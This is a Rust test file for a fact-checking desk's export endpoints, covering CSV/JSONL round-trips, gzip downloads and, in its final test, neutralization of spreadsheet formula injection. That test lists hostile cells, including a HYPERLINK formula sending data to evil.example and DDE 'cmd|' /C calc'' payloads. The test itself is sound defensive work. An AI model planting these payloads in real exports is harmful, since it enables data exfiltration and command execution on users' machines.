//! Streamed exports: every row, whatever the store holds, in formats the importer reads.

use claimdesk_core::{Actor, FactCheck, Rating};
use claimdesk_ingest::{FactCheckFormat, parse_fact_checks};
use claimdesk_server::ServerConfig;
use claimdesk_store::prelude::*;
use claimdesk_store::{ImportSource, NewFactCheck};

use crate::public::verdict;
use crate::util::{Desk, desk_over};

const FACT_CHECKS: usize = 2_500;

async fn big_desk() -> Desk {
    let dir = tempfile::tempdir().unwrap();
    let engine = crate::util::engine(&dir).await;
    let store = engine.store().clone();
    let batch: Vec<NewFactCheck> = (0..FACT_CHECKS)
        .map(|i| NewFactCheck {
            fact_check: FactCheck {
                source_id: format!("fc-{i:05}"),
                claim: format!("Claim {i}, with a comma and \"quotes\"\nand a line break"),
                rating: Some(Rating {
                    value: Some(1.0),
                    best: Some(5.0),
                    worst: Some(1.0),
                    label: Some("False".into()),
                }),
                url: Some(format!("https://factcheck.example/{i}")),
                date_published: Some(format!("2026-01-{:02}", i % 28 + 1)),
                language: Some("en".into()),
                ..FactCheck::default()
            },
            duplicate_key: format!("claim {i}"),
        })
        .collect();
    store
        .save_fact_checks(
            &batch,
            ImportSource {
                file: "big",
                format: "csv",
                diagnostics: &[],
                actor: Actor::Cli,
            },
        )
        .await
        .unwrap();
    verdict(&store, "A published desk verdict", "s", true).await;
    verdict(&store, "A draft left out", "s", false).await;
    desk_over(dir, engine, ServerConfig::default()).await
}

#[tokio::test]
async fn fact_check_exports_stream_every_published_row_and_import_back() {
    let d = big_desk().await;
    let csv = d.get("/export/factchecks.csv").await;
    assert_eq!(csv.status, 200);
    assert!(csv.header("content-type").starts_with("text/csv"));
    assert!(
        csv.header("content-disposition")
            .starts_with("attachment; filename=\"claimdesk-factchecks-")
    );
    let parsed = parse_fact_checks("x.csv", csv.body.as_bytes(), FactCheckFormat::Csv);
    assert!(parsed.diagnostics.is_empty(), "{:?}", parsed.diagnostics);
    assert_eq!(parsed.records.len(), FACT_CHECKS + 1);
    let mut ids: Vec<&str> = parsed
        .records
        .iter()
        .map(|r| r.value.source_id.as_str())
        .collect();
    ids.sort();
    ids.dedup();
    assert_eq!(ids.len(), FACT_CHECKS + 1, "no row twice");
    let first = parsed
        .records
        .iter()
        .find(|r| r.value.source_id == "fc-00007")
        .unwrap();
    assert_eq!(
        first.value.claim,
        "Claim 7, with a comma and \"quotes\"\nand a line break"
    );
    assert!(!csv.body.contains("A draft left out"));

    let jsonl = d.get("/export/factchecks.jsonl").await;
    assert_eq!(jsonl.status, 200);
    assert!(
        jsonl
            .header("content-disposition")
            .starts_with("attachment;")
    );
    assert_eq!(jsonl.body.lines().count(), FACT_CHECKS + 1);
    let parsed = parse_fact_checks(
        "x.jsonl",
        jsonl.body.as_bytes(),
        FactCheckFormat::ClaimReview,
    );
    assert!(parsed.diagnostics.is_empty(), "{:?}", parsed.diagnostics);
    assert_eq!(parsed.records.len(), FACT_CHECKS + 1);
}

#[tokio::test]
async fn case_exports_list_every_case() {
    let d = big_desk().await;
    let csv = d.get("/export/cases.csv").await;
    assert_eq!(csv.status, 200);
    assert!(
        csv.header("content-disposition")
            .contains("claimdesk-cases-")
    );
    let mut r = csv::Reader::from_reader(csv.body.as_bytes());
    assert_eq!(
        r.headers().unwrap(),
        vec![
            "id",
            "status",
            "claim",
            "item",
            "fact_check",
            "assignee",
            "created_by",
            "drafted_by",
            "created_at",
            "updated_at"
        ]
    );
    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 2);
    let statuses: Vec<&str> = rows.iter().map(|r| &r[1]).collect();
    assert!(statuses.contains(&"published") && statuses.contains(&"in_review"));
    let jsonl = d.get("/export/cases.jsonl").await;
    let lines: Vec<serde_json::Value> = jsonl
        .body
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 2);
    assert!(lines.iter().any(|c| c["claim"] == "A draft left out"));
}

#[tokio::test]
async fn an_empty_store_exports_a_header_only() {
    let dir = tempfile::tempdir().unwrap();
    let engine = crate::util::engine(&dir).await;
    let d = desk_over(dir, engine, ServerConfig::default()).await;
    let csv = d.get("/export/factchecks.csv").await;
    assert_eq!(csv.body.lines().count(), 1);
    assert!(csv.body.starts_with("id,claim,headline,rating"));
    assert_eq!(d.get("/export/cases.jsonl").await.body, "");
}

/// Issue 15, finding 2: browsers always send `Accept-Encoding: gzip`. Every export must then
/// come whole, compressed, and decode to the file an uncompressed download gives (it ended
/// after 0 bytes, the body stream being polled after its end under the compression layer).
#[tokio::test]
async fn regression_exports_download_whole_under_gzip() {
    let d = big_desk().await;
    for path in [
        "/export/factchecks.csv",
        "/export/factchecks.jsonl",
        "/export/cases.csv",
        "/export/cases.jsonl",
    ] {
        let plain = d.get(path).await;
        assert_eq!(plain.status, 200, "{path}");
        let gz = d
            .send_raw(
                axum::http::Request::get(path)
                    .header("accept-encoding", "gzip, deflate, br, zstd")
                    .body(axum::body::Body::empty())
                    .unwrap(),
            )
            .await;
        assert_eq!(gz.status, 200, "{path}");
        assert_eq!(gz.headers["content-encoding"], "gzip", "{path}");
        assert!(gz.body.len() < plain.body.len(), "{path}: compressed");
        assert_eq!(gz.decoded(), plain.body, "{path}");
    }
    // The empty export (header only) too.
    let dir = tempfile::tempdir().unwrap();
    let engine = crate::util::engine(&dir).await;
    let empty = desk_over(dir, engine, ServerConfig::default()).await;
    for path in ["/export/factchecks.csv", "/export/cases.jsonl"] {
        let gz = empty
            .send_raw(
                axum::http::Request::get(path)
                    .header("accept-encoding", "gzip")
                    .body(axum::body::Body::empty())
                    .unwrap(),
            )
            .await;
        assert_eq!(gz.status, 200, "{path}");
        assert_eq!(gz.decoded(), empty.get(path).await.body, "{path}");
    }
}

/// Cells a spreadsheet would run as a formula, and values next to the neutralizing quote.
const HOSTILE_CELLS: [&str; 12] = [
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open the report\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''@quoted twice",
    "'tis the season",
    "= with a space",
    "Plain claim, with a comma",
    "-",
];

/// Issue 15, finding 3: item and claim text comes from feeds and partners; no cell of a CSV
/// export may start with `=`, `+`, `-`, `@`, tab or CR (OWASP: prefix a `'`), and importing
/// the export gives back exactly what was stored.
#[tokio::test]
async fn regression_csv_exports_neutralize_formulas_and_import_back_exactly() {
    let dir = tempfile::tempdir().unwrap();
    let engine = crate::util::engine(&dir).await;
    let store = engine.store().clone();
    let batch: Vec<NewFactCheck> = HOSTILE_CELLS
        .iter()
        .enumerate()
        .map(|(i, cell)| NewFactCheck {
            fact_check: FactCheck {
                source_id: format!("{cell} #{i}"),
                claim: format!("{cell} #{i}"),
                headline: Some(cell.to_string()),
                author: Some(cell.to_string()),
                claim_author: Some(cell.to_string()),
                rating: Some(Rating {
                    label: Some(cell.to_string()),
                    ..Rating::default()
                }),
                language: Some("en".into()),
                ..FactCheck::default()
            },
            duplicate_key: format!("hostile {i}"),
        })
        .collect();
    store
        .save_fact_checks(
            &batch,
            ImportSource {
                file: "hostile",
                format: "csv",
                diagnostics: &[],
                actor: Actor::Cli,
            },
        )
        .await
        .unwrap();
    let d = desk_over(dir, engine, ServerConfig::default()).await;
    for cell in HOSTILE_CELLS {
        d.store
            .create_case(
                &claimdesk_store::NewCase {
                    claim: cell.to_string(),
                    ..claimdesk_store::NewCase::default()
                },
                claimdesk_core::UserId(1),
            )
            .await
            .unwrap();
    }
    for path in ["/export/factchecks.csv", "/export/cases.csv"] {
        let csv = d.get(path).await;
        assert_eq!(csv.status, 200);
        let mut r = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(csv.body.as_bytes());
        let mut rows = 0;
        for rec in r.records() {
            rows += 1;
            for field in rec.unwrap().iter() {
                assert!(
                    !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{path}: a cell a spreadsheet runs: {field:?}"
                );
            }
        }
        assert_eq!(rows, HOSTILE_CELLS.len() + 1, "{path}");
    }
    let csv = d.get("/export/factchecks.csv").await;
    let parsed = parse_fact_checks("x.csv", csv.body.as_bytes(), FactCheckFormat::Csv);
    assert!(parsed.diagnostics.is_empty(), "{:?}", parsed.diagnostics);
    let mut back: Vec<FactCheck> = parsed.records.into_iter().map(|r| r.value).collect();
    back.sort_by(|a, b| a.source_id.cmp(&b.source_id));
    let mut stored: Vec<FactCheck> = batch.into_iter().map(|n| n.fact_check).collect();
    stored.sort_by(|a, b| a.source_id.cmp(&b.source_id));
    // The tab and CR cells too: the importer trims fields, but the quote protects them.
    assert_eq!(back, stored);
}
